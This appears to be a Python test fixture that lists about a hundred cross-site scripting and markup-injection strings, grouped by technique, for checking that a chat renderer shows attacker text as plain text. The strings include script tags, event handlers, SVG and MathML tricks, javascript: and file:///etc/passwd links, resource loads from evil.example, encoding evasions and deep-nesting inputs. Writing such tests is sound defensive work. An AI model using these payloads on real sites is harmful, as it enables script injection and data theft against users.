"""Text as an attacker would write it into a conversation: what must stay text wherever it is shown.

Each attack is named after its kind. Where one runs, it calls `alert` or asks for something of
`evil.example`; what it says beside that is its mark, by which a test finds it again.
"""

from __future__ import annotations

BASE64_PAGE = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

ATTACKS: dict[str, str] = {
    # Scripts
    "script element": "<script>alert(1)</script>",
    "script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "script in mixed case": "<ScRiPt>alert(1)</sCrIpT >",
    "script inside a script tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script as a module": "<script type=module>import('https://evil.example/m.js')</script>",
    "script with a slash for a blank": "<script/x>alert(1)</script/x>",
    "script that is never closed": "<script>alert(1)//",
    "script with a NUL": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script in full-width signs": "＜script＞alert(1)＜/script＞",
    "end of a script, then a new one": "</script><script>alert(1)</script>",
    "speculation rules": "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/p\"]}]}</script>",
    # Event handlers
    "broken image": "<img src=x onerror=alert(1)>",
    "broken image without blanks": "<img/src=x/onerror=alert(1)>",
    "broken image with form feeds": "<img\x0csrc=x\x0conerror=alert(1)>",
    "image in a broken tag": "<img src=x onerror=alert(1) <b",
    "image with a candidate list": "<img srcset='https://evil.example/a.png 2x' onerror=alert(1)>",
    "details that opens itself": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "field that takes the focus": "<input autofocus onfocus=alert(1)>",
    "editable that takes the focus": "<p contenteditable autofocus onfocus=alert(1)>x",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "animation event": "<b style='animation:x 1s' onanimationstart=alert(1)>x</b>",
    "body that loads": "<body onload=alert(1) onpageshow=alert(2)>",
    "handler over everything": "<b style='position:fixed;inset:0;z-index:9' onpointerover=alert(1)>x</b>",
    "popover": "<button popovertarget=p>x</button><i id=p popover onbeforetoggle=alert(1)>y</i>",
    "video source": "<video><source onerror=alert(1) src=x></video>",
    "audio": "<audio src=https://evil.example/a.mp3 onerror=alert(1) autoplay></audio>",
    # SVG and MathML
    "svg that loads": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that animates a link": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text y=20>x</text></a></svg>",
    "svg that uses another": "<svg><use href='https://evil.example/s.svg#x'/></svg>",
    "svg image": "<svg><image href='https://evil.example/i.png'/></svg>",
    "svg with foreign content": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mathml that changes its mind": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "mathml link": "<math href='javascript:alert(1)'>x</math>",
    # Frames, forms, other elements
    "frame": "<iframe src=https://evil.example/></iframe>",
    "frame with a page of its own": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object and embed": "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href=https://evil.example/>",
    "stylesheet": "<link rel=stylesheet href=https://evil.example/s.css>",
    "preload and prefetch": "<link rel=preload as=image href=https://evil.example/p.png>"
    "<link rel=dns-prefetch href=//evil.example>",
    "form that leads away": "<form action=https://evil.example/ method=get><input name=q value=1>"
    "<button>Go</button></form>",
    "button of another form": "<button form=x formaction='javascript:alert(1)'>Go</button>",
    "template with content": "<template><img src=x onerror=alert(1)></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "end of a text field": "</textarea><img src=x onerror=alert(1)>",
    "end of a title": "</title><img src=x onerror=alert(1)>",
    "end of table, list and page": "</td></tr></table></li></ul></main></body><img src=x onerror=alert(1)>",
    "end of a block of code": "</code></pre></div><img src=x onerror=alert(1)>",
    "end of a fold": "</summary></details><img src=x onerror=alert(1)>",
    # Attributes
    "end of a quoted attribute": "\"><img src=x onerror=alert(1)>",
    "end of an attribute in single quotes": "'><img src=x onerror=alert(1)>",
    "new attribute": "x\" autofocus onfocus=\"alert(1)",
    "new attribute in single quotes": "x' onmouseover='alert(1)",
    "backtick attribute": "` onmouseover=alert(1) `",
    # CSS
    "style element": "<style>@import 'https://evil.example/s.css';*{background:url(https://evil.example/b.png)}</style>",
    "style attribute": "<b style=\"background:url('https://evil.example/b.png')\">x</b>",
    "end of a style": "</style><img src=x onerror=alert(1)>",
    "declaration in a value": "x;} body{background:url(https://evil.example/b.png)} a{",
    # Comments, processing, character data
    "comment that is none": "<!--><img src=x onerror=alert(1)>-->",
    "comment with a false end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "character data": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml version='1.0'?><?x ><img src=x onerror=alert(1)>",
    "declaration": "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    # Entities and encodings
    "entities of a script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entities": "&#60;img src=x onerror=alert(1)&#62;",
    "entities twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "percent encoding": "%3Cscript%3Ealert(1)%3C/script%3E",
    "backslash escapes": "\\x3cscript\\x3ealert(1)\\u003c/script\\u003e",
    "seven-bit encoding": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Addresses
    "markdown link that runs": "[go](javascript:alert(1))",
    "markdown link in mixed case": "[go](JaVaScRiPt:alert(1))",
    "markdown link with an entity": "[go](&#106;avascript:alert(1))",
    "markdown link with a tab": "[go](java\tscript:alert(1))",
    "markdown link in angle brackets": "[go](<javascript:alert(1)>)",
    "markdown link to data": f"[go](data:text/html;base64,{BASE64_PAGE})",
    "markdown link by reference": "[go][1]\n\n[1]: javascript:alert(1) \"t\"",
    "markdown link with a title that ends": "[go](https://ok.example 'x\" onmouseover=\"alert(1)')",
    "markdown link of another scheme": "[go](vbscript:msgbox(1)) [go](file:///etc/passwd) [go](blob:x)",
    "markdown link into the instance": "[go](/-/logout) [go](//evil.example/)",
    "automatic link that runs": "<javascript:alert(1)>",
    "html link that runs": "<a href=javascript:alert(1)>go</a>",
    "html link with control characters": "<a href='\x01java\nscript:alert(1)'>go</a>",
    "html link that pings": "<a href=https://ok.example/ ping=https://evil.example/ping>go</a>",
    # Markdown
    "markdown image": "![p](https://evil.example/p.png)",
    "markdown image with a handler": "![\" onerror=\"alert(1)](x)",
    "markdown image in a link": "[![p](https://evil.example/p.png)](javascript:alert(1))",
    "markdown image by reference": "![p][2]\n\n[2]: https://evil.example/p.png",
    "fence with a handler": "```\" onmouseover=alert(1)\nx\n```",
    "fence with attributes": "``` { .x onclick=alert(1) }\nx\n```",
    "fence that ends early": "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
    "fences in fences": "````\n```\n<img src=x onerror=alert(1)>\n```\n````",
    "fence of an odd language": "```<img/src=x/onerror=alert(1)>\nx\n```",
    "table with tags": "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "placeholders of the renderer": "\x02wzxhzdk:0\x03<img src=x onerror=alert(1)>\x02amp\x03",
    # Templates and formats
    "template braces": "{{ 7*7 }}{% for x in (1,) %}<img src=x onerror=alert(1)>{% endfor %}"
    "${alert(1)}#{alert(1)}<%= 1 %>",
    "format fields": "{0} {self} {x!r} %s %(x)s {{}}",
    "structured text that is none": "json:[{\"type\":\"text\",\"text\":\"<img src=x onerror=alert(1)>\"}]",
    "regular expression that replaces": "\\1 \\g<0> $1 $& <img src=x onerror=alert(1)>",
    # Directions and invisible signs
    "override of direction": "\u202e<img src=x onerror=alert(1)>\u202c",
    "isolates that are never closed": "\u2066\u2067\u2068<script>alert(1)</script>",
    "invisible signs in a tag": "<\u200bscript>alert(1)</\u2060script>",
    "line separators": "a\u2028<img src=x onerror=alert(1)>\u2029b",
    # Much of it
    "very long word": "<img src=x onerror=alert(1)>" + "A" * 60_000,
    "deep quotes": "> " * 400 + "<img src=x onerror=alert(1)>",
    "deep lists": "\n".join("  " * n + "- x" for n in range(150)) + "<img src=x onerror=alert(1)>",
    "many brackets": "[" * 5000 + "<img src=x onerror=alert(1)>" + "]" * 5000,
    "many open tags": "<b>" * 3000 + "<img src=x onerror=alert(1)>",
    "many marks of emphasis": "*_" * 4000 + "<img src=x onerror=alert(1)>",
    "deep JSON": "[" * 3000 + "]" * 3000,
}  # fmt: skip
"""Every attack by its kind."""
